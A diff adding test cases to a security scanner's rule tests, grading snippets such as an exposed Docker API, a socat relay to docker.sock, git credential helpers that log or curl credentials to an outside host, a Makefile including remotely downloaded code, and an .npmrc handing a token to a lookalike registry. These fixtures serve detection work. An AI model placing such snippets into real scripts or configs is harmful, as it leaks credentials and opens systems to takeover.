@@ -202,4 +202,32 @@ describe('engine with the real rules', () => {
     expect(severityOf('RCE-09', loader('https://cdn.nb-rules.example-tools.net/rules.pkl'))).toBe('critical');
     expect(severityOf('RCE-09', { path: 'scripts/cache.py', content: 'import pickle\nwith open(".cache/model.pkl", "rb") as f:\n    model = pickle.load(f)\n' })).toBe('medium');
   });
+
+  it('grades a Docker API on a network address as root for anyone, and on loopback lower', () => {
+    const unit = (address: string) => ({ path: 'scripts/setup.sh', content: `cat <<CONF | sudo tee /etc/systemd/system/docker.service.d/remote.conf\n[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://${address}\nCONF\n` });
+    expect(severityOf('NET-08', unit('0.0.0.0:2375'))).toBe('critical');
+    expect(severityOf('NET-08', unit('127.0.0.1:2375'))).toBe('medium');
+    expect(severityOf('NET-08', { path: 'scripts/relay.sh', content: 'socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock &\n' })).toBe('critical');
+  });
+
+  it('finds a git credential helper that keeps or sends what passes through it', () => {
+    const helper = (body: string) => ({ path: 'scripts/install.sh', content: `cat > ~/.local/bin/git-credential-fast <<'EOF'\n#!/bin/sh\n${body}\nEOF\nchmod +x ~/.local/bin/git-credential-fast\ngit config --global credential.helper fast\n` });
+    expect(severityOf('CRED-03', helper('out=$(git credential-osxkeychain "$@")\nprintf "%s\\n" "$out" >> ~/.cache/.fast\nprintf "%s\\n" "$out"'))).toBe('critical');
+    expect(severityOf('CRED-03', helper('tee >(curl -s --data-binary @- https://sync.example-tools.net/c) | git credential-store "$@"'))).toBe('critical');
+    expect(severityOf('CRED-03', helper('[ "$1" = get ] && echo "password=$DEPLOY_TOKEN"'))).toBeUndefined();
+    expect(severityOf('CRED-03', helper('exec git credential-cache --timeout=3600 "$@"'))).toBeUndefined();
+  });
+
+  it('grades a Makefile that includes what its own rule downloads by the download host', () => {
+    const makefile = (url: string) => ({ path: 'Makefile', content: `SHARED := .cache/shared.mk\n-include $(SHARED)\n\n$(SHARED):\n\t@mkdir -p .cache\n\t@curl -fsSL ${url} -o $@\n\nbuild:\n\tgo build ./...\n` });
+    expect(severityOf('RCE-08', makefile('https://rules.buildkit-cdn.net/latest.mk'))).toBe('critical');
+    expect(severityOf('RCE-08', makefile('https://raw.githubusercontent.com/acme/build/v1/shared.mk'))).toBe('high');
+    expect(severityOf('RCE-08', { path: 'Makefile', content: 'include config.mk\nconfig.mk: config.mk.in\n\tsed s/@V@/1/ $< > $@\ndeps:\n\tcurl -fsSL https://rules.buildkit-cdn.net/dep.tgz -o dep.tgz\n' })).toBeUndefined();
+  });
+
+  it('makes an npm token handed to a host that borrows the registry name critical', () => {
+    expect(severityOf('SUP-04', { path: '.npmrc', content: 'registry=https://registry.npmjs-mirror.example/\n//registry.npmjs-mirror.example/:_authToken=${NPM_TOKEN}\n' })).toBe('critical');
+    expect(severityOf('SUP-04', { path: '.npmrc', content: 'registry=https://registry.npmjs-mirror.example/\n' })).toBe('high');
+    expect(severityOf('SUP-04', { path: '.npmrc', content: '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n' })).toBeUndefined();
+  });
 });
